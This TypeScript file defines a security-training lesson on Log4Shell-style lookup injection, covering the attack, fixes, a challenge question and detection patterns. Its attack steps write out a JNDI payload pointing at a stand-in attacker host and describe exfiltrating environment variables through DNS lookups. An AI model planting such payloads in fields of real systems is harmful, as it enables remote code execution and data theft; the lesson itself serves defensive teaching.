// Lesson: a text that makes the server fetch code.
import type { Lesson } from '../lesson.ts';

export const lookupInjection: Lesson = {
  id: 'lookup-injection',
  title: 'A text that makes the server fetch code',
  summary:
    'Text from a user is searched for expressions, and one kind of expression loads a class ' +
    'from elsewhere.',
  why: [
    'Log4Shell taught it: a logging library that replaces `${...}` in messages, and a ' +
      'directory service (JNDI) that may answer with a reference to code. Anything that gets ' +
      'logged is then a way in: a user agent, a name, the subject of a mail.',
    'It is so dangerous because it is silent and deep: the text may be logged hours later ' +
      'by a machine behind three others that never speaks to the internet, except for this ' +
      'one lookup.',
  ],
  attack: [
    'Put `${jndi:ldap://attacker/x}` into every field that might be logged.',
    'Wait for a DNS query or an LDAP connection: it tells who evaluates it.',
    'Answer with a reference to a class, or with a serialised object where remote classes ' +
      'are refused.',
  ],
  fix: [
    'Raise Log4j to 2.17.1 or later (2.12.4 for Java 7, 2.3.2 for Java 6); earlier fixes ' +
      'were incomplete.',
    'Look inside: shaded and nested JARs carry copies that no manifest names. The finding ' +
      'tells the path inside the archive.',
    'Let servers open no connections to the internet that they do not need: an egress rule ' +
      'breaks the second step of this attack and of the next one like it.',
    'Removing the class `JndiLookup` from the JAR helps until the upgrade; a filter for the ' +
      'text in the proxy does not, it is written in too many ways.',
  ],
  challenge: {
    question:
      'The egress firewall blocks LDAP and RMI. Why is a vulnerable Log4j still worth a fix ' +
      'on the same day?',
    answer:
      'The lookup `${jndi:dns://...}` sends data out through DNS, for example environment ' +
      'variables by nested expressions, and every port that is open towards the outside ' +
      'serves as well: LDAP needs no port 389.',
  },
  techniques: ['T1190', 'T1059'],
  related: ['unsafe-deserialisation', 'code-injection', 'information-leak'],
  signs: [
    '\\bjndi\\b',
    'log4shell',
    'message lookup',
    'expression[- ]language injection',
    '\\bOGNL\\b',
    'SpEL',
  ],
};
